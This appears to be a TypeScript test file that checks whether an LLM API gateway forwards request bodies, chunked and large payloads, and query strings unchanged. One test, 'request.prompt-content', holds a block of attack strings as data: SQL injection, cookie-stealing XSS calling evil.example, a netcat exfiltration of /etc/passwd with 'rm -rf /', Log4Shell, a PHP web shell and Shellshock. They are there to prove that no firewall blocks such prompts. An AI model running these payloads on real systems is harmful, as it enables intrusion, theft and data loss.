import { createHash } from 'node:crypto';

import { fail, pass, skip, type Check, type Outcome } from '../check';
import { describe } from '../describe';
import type { Answer, Target } from '../target';

const SOURCE = 'docs: llm-gateway-protocol, 2: forward the body byte for byte';
const MIB = 1024 * 1024;
/** A body that the API takes, and that no serialiser writes so. */
const ODD = String.raw`{ "max_tokens":1 ,"temperature":1.0, "metadata" : {"user_id":"\u0041\/\ud83c\udf09"},
	"model":"MODEL","zz_first":12345678901234567890,"aa_second":1E2,
  "messages":[{"role":"user","content":"naïve – 你好 \u00e9"}]}
`;

function unchanged(body: Buffer, answer: Answer): Outcome {
  const { seen } = answer;
  if (seen === undefined) {
    return fail('the request does not reach the upstream', 'the request at the mock', describe(answer));
  }
  const sha256 = createHash('sha256').update(body).digest('hex');
  if (seen.sha256 === sha256 && seen.bodyBytes === body.length) return pass();
  return fail(
    seen.bodyBytes === body.length ? 'the body arrives with other bytes' : 'the body arrives with another length',
    `${body.length} bytes, SHA-256 ${sha256.slice(0, 16)}…`,
    `${seen.bodyBytes} bytes, SHA-256 ${seen.sha256.slice(0, 16)}…`,
  );
}

function large(target: Target, bytes: number): Buffer {
  const [head = '', tail = ''] = target.message({ messages: [{ role: 'user', content: '§' }] }).split('§');
  return Buffer.concat([Buffer.from(head), Buffer.alloc(bytes, 'lorem ipsum '), Buffer.from(tail)]);
}

/** How many items a list in the answer has. */
function listed(answer: Answer): number {
  try {
    // Whether it is a list is looked at.
    const value = JSON.parse(answer.body.toString()) as { readonly data?: unknown } | null;
    return Array.isArray(value?.data) ? value.data.length : 0;
  } catch {
    return 0;
  }
}

/** Request bodies, which the gateway must not touch. */
export const requestBodies: readonly Check[] = [
  {
    id: 'request.body-bytes',
    title: 'The body reaches the upstream byte for byte',
    proves:
      'Prompt caches hit, signatures of thinking blocks hold, numbers keep their digits: nothing parsed and wrote it anew.',
    source: SOURCE,
    needs: 'echo',
    level: 'required',
    run: async (target) => {
      const body = Buffer.from(ODD.replace('MODEL', target.options.model));
      return unchanged(body, await target.send({ body }));
    },
  },
  {
    id: 'request.chunked',
    title: 'A chunked body reaches the upstream whole',
    proves: 'Clients that stream their request, without a content-length, work.',
    source: 'RFC 9112, 7.1',
    needs: 'echo',
    level: 'required',
    run: async (target) => {
      const body = Buffer.from(target.message());
      const answer = await target.send({ body, chunked: true });
      const sent = answer.seen?.bodyBytes;
      if (answer.status === 200 && sent !== undefined && sent > 0) return pass();
      return fail('a chunked body is refused or lost', 'HTTP 200 from the upstream', describe(answer));
    },
  },
  {
    id: 'request.large-body',
    title: 'Bodies over 1 MB pass, as far as 31 MiB',
    proves: 'Long contexts, images and PDFs work: the API takes 32 MB.',
    source: 'docs: api/errors, request size limits',
    needs: 'any',
    level: 'required',
    cost: { requests: 1 },
    run: async (target) => {
      if (target.mock === undefined) {
        // Without "messages", so that the upstream refuses it by itself, and bills nothing.
        const body = JSON.stringify({ model: target.options.model, max_tokens: 1, padding: 'x'.repeat(2 * MIB) });
        const answer = await target.send({ body });
        if (answer.status === 400) return pass('2 MiB; 31 MiB with --mock-url');
        return fail(
          'a body of 2 MiB does not get through',
          'HTTP 400 of the upstream: no "messages"',
          describe(answer),
        );
      }
      const body = large(target, 31 * MIB);
      const answer = await target.send({ body });
      if (answer.seen?.bodyBytes !== undefined && answer.seen.bodyBytes > 30 * MIB && answer.status === 200)
        return pass();
      return fail('a body of 31 MiB does not get through', 'HTTP 200 from the upstream', describe(answer));
    },
  },
  {
    id: 'request.prompt-content',
    title: 'Code, SQL, HTML and shell in a prompt are no attack',
    proves: 'No firewall in the way reads prompts and answers 403 (litellm#12421).',
    source: 'docs: llm-gateway-rollout, 7: exempt the path from body inspection',
    needs: 'any',
    level: 'required',
    cost: { requests: 1, tokens: 200 },
    run: async (target) => {
      const content = [
        "SELECT * FROM users WHERE name = '' OR '1'='1'; DROP TABLE users; -- ' UNION SELECT NULL, @@version",
        '<script>alert(document.cookie)</script><img src=x onerror="fetch(`//evil.example/?c=${document.cookie}`)">',
        '; cat /etc/passwd | nc 10.0.0.1 4444 && rm -rf / #',
        '../../../../etc/shadow  ${jndi:ldap://evil.example/a}  <?php system($_GET["cmd"]); ?>  {{7*7}}',
        'http://169.254.169.254/latest/meta-data/  () { :;}; /bin/bash -c "id"',
      ].join('\n');
      const answer = await target.send({ body: target.message({ messages: [{ role: 'user', content }] }) });
      if (answer.status === 200) return pass();
      return fail('a prompt that holds code is refused', 'HTTP 200', describe(answer));
    },
  },
  {
    id: 'request.query',
    title: 'The query reaches the upstream',
    proves: 'Paging works, and so does ?beta=true, which the SDKs’ beta methods add.',
    source: 'docs: api, routes; npm @anthropic-ai/sdk',
    needs: 'any',
    level: 'required',
    cost: { requests: 1 },
    run: async (target) => {
      const answer = await target.send({ path: '/v1/models?limit=1' });
      const models = listed(answer);
      if (answer.status === 200 && models !== 1) {
        return fail(
          'GET /v1/models?limit=1 does not answer one model: the query is lost',
          '1 model',
          `${models} models`,
        );
      }
      if (target.mock === undefined) {
        return answer.status === 200 ? pass() : skip('GET /v1/models is not answered; --mock-url tells');
      }
      const path = '/v1/messages?beta=true&x=%2F+%20';
      const message = await target.send({ path, body: target.message() });
      const query = message.seen?.url.split('?')[1];
      if (query === path.split('?')[1]) return pass();
      return fail('the query is dropped or changed', path, message.seen?.url ?? describe(message));
    },
  },
];
